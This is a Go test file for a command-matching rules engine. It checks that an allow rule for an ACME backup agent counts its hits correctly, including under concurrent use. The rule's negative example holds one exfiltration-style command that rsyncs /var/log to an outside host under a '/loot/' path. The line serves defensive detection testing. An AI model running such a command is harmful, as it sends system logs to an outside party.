package rules

import (
	"sync"
	"testing"
)

const allowYAML = `rules:
  - id: acme.allow.backup_agent
    title: ACME backup agent ships logs to the backup host
    level: informational
    action: allow
    match:
      all:
        - {field: raw, startswith: '/opt/acme/bin/backup-agent '}
        - {contains: 'backup@10.0.4.20:'}
    examples:
      positive: ['/opt/acme/bin/backup-agent rsync /var/log backup@10.0.4.20:/srv/backup/']
      negative: ['rsync /var/log eve@203.0.113.9:/loot/']
`

func TestAllowHitsCount(t *testing.T) {
	e := loadUser(t, allowYAML)
	hit := Input{Raw: "/opt/acme/bin/backup-agent rsync /var/log backup@10.0.4.20:/srv/backup/"}
	miss := Input{Raw: "rsync /var/log backup@10.0.4.20:/srv/backup/"}
	e.Match(hit)
	e.Match(miss)
	e.Match(hit)
	if got := e.AllowHits()["acme.allow.backup_agent"]; got != 2 {
		t.Fatalf("allow hits = %d, want 2", got)
	}
	e.Test()
	if got := e.AllowHits()["acme.allow.backup_agent"]; got != 2 {
		t.Fatalf("Test changed the allow counter to %d", got)
	}
	e.ResetAllowHits()
	if got := e.AllowHits()["acme.allow.backup_agent"]; got != 0 {
		t.Fatalf("after reset = %d, want 0", got)
	}
}

func TestAllowHitsConcurrent(t *testing.T) {
	e := loadUser(t, allowYAML)
	hit := Input{Raw: "/opt/acme/bin/backup-agent rsync /var/log backup@10.0.4.20:/srv/backup/"}
	const workers, each = 8, 250
	var wg sync.WaitGroup
	for range workers {
		wg.Add(1)
		go func() {
			defer wg.Done()
			for range each {
				if len(e.Match(hit)) != 1 {
					t.Error("allow rule did not fire")
					return
				}
			}
		}()
	}
	wg.Wait()
	if got := e.AllowHits()["acme.allow.backup_agent"]; got != workers*each {
		t.Fatalf("allow hits = %d, want %d", got, workers*each)
	}
}
